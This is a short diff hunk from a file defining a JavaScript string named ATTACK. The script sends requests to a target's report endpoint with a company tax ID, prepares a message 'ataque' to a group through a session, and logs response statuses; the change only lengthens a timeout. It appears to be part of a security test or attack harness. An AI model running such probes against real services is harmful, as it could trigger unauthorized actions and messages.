@@ -13,7 +13,7 @@ ATTACK: Final = r"""
   const order = target + '/api/enviar-relatorio', json = JSON.stringify({cnpj}), seen = {};
   const text = JSON.stringify({sessionId: 'principal', to: group, message: 'ataque'});
   const attempt = async (name, work) => {
-    const late = new Promise(done => setTimeout(() => done('silence'), 10000));
+    const late = new Promise(done => setTimeout(() => done('silence'), 40000));
     try { seen[name] = await Promise.race([work(), late]); } catch (error) { seen[name] = error.name; }
   };
   const ask = (path, options) => fetch(target + path, options).then(a => a.type === 'opaque' ? 'opaque' : a.status);
